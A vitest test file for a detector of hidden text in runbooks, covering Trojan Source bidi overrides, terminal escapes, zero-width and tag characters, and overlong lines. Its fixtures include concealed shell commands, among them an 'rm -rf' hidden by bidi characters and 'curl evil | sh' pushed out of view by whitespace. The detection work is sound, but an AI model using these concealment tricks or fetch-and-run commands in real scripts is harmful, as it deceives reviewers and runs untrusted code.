import { describe, expect, it } from 'vitest';
import {
  escapeHidden,
  findHiddenChars,
  findLongLines,
  hiddenKind,
  LONG_LINE_LIMIT,
} from '../../../src-main/core/runbook/hidden-text.js';

describe('findHiddenChars', () => {
  it('names the Trojan Source overrides and isolates with line and column', () => {
    const text = 'echo ok\nif [ "$USER" != "root\u202e \u2066" ]; then\u2069 rm -rf /tmp/x; fi';
    const found = findHiddenChars(text);
    expect(found.map((f) => [f.line, f.column, f.codePoint, f.kind])).toEqual([
      [2, 22, 'U+202E', 'bidi'],
      [2, 24, 'U+2066', 'bidi'],
      [2, 34, 'U+2069', 'bidi'],
    ]);
    expect(found[0]?.name).toBe('right-to-left override');
  });

  it('reports terminal escapes and carriage returns but not tabs or line feeds', () => {
    const found = findHiddenChars('# \x1b[1A\x1b[2K\recho harmless\n\tls');
    expect(found.map((f) => f.name)).toEqual(['escape', 'escape', 'carriage return']);
    expect(found.every((f) => f.kind === 'control')).toBe(true);
  });

  it('reports zero-width and tag characters, counting columns in code points', () => {
    const found = findHiddenChars('a\u{1f600}\u200bb\u{e0041}');
    expect(found.map((f) => [f.column, f.kind, f.name])).toEqual([
      [3, 'invisible', 'zero-width space'],
      [5, 'invisible', 'tag character'],
    ]);
  });

  it('finds nothing in ordinary text, accents, symbols and CJK', () => {
    expect(findHiddenChars('Überprüfung → ✔ 東京 café\n\tdone')).toEqual([]);
    expect(hiddenKind('é')).toBeUndefined();
  });
});

describe('findLongLines', () => {
  it('marks lines past the limit, so text pushed out of sight is flagged', () => {
    const hidden = `echo harmless${' '.repeat(300)}; curl evil | sh`;
    expect(findLongLines(`ls\n${hidden}\npwd`)).toEqual([{ line: 2, length: [...hidden].length }]);
    expect(findLongLines('x'.repeat(LONG_LINE_LIMIT))).toEqual([]);
  });
});

describe('escapeHidden', () => {
  it('writes astral hidden characters in brace form and keeps the rest', () => {
    expect(escapeHidden('a\u{e0041}b\u202ec')).toBe('a\\u{e0041}b\\u202ec');
  });
});
